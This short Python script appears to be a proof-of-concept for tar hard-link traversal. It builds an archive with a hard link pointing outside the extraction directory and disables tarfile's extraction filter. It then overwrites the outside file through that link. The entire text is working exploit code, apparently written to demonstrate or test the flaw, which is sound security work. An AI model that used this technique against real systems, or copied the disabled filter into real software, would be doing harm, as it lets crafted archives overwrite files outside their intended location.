# An archive holds a second name for a file outside, and then content for it.
# damage: overwritten
# needs: linux
import os
import tarfile
import io

with tarfile.open("made.tar", "w") as archive:
    link = tarfile.TarInfo("mine.txt")
    link.type, link.linkname = tarfile.LNKTYPE, "../outside/victim.txt"
    archive.addfile(link)
with tarfile.open("made.tar") as archive:
    archive.extraction_filter = staticmethod(lambda member, path: member)
    archive.extractall()
with open("mine.txt", "r+b") as file:
    file.write(b"gone")
